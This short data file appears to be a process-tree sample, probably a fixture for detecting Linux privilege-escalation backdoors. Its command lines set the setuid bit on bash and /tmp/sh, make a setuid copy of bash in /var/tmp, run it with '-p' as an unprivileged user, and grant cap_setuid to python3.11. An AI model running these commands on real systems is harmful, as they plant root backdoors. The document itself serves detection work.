os linux
101 1 root - /usr/bin/bash | /usr/bin/bash
+ 102 101 root - /usr/bin/chmod | chmod u+s /bin/bash
+ 103 101 root - /usr/bin/chmod | chmod 4755 /tmp/sh
+ 104 101 root sh /usr/bin/dash | sh -c cp /bin/bash /var/tmp/b; chmod +s /var/tmp/b
+ 105 101 ana - /usr/bin/bash | /var/tmp/b -p
+ 106 101 ana - /usr/bin/bash | bash -p
+ 107 101 root - /usr/bin/setcap | setcap cap_setuid+ep /usr/bin/python3.11
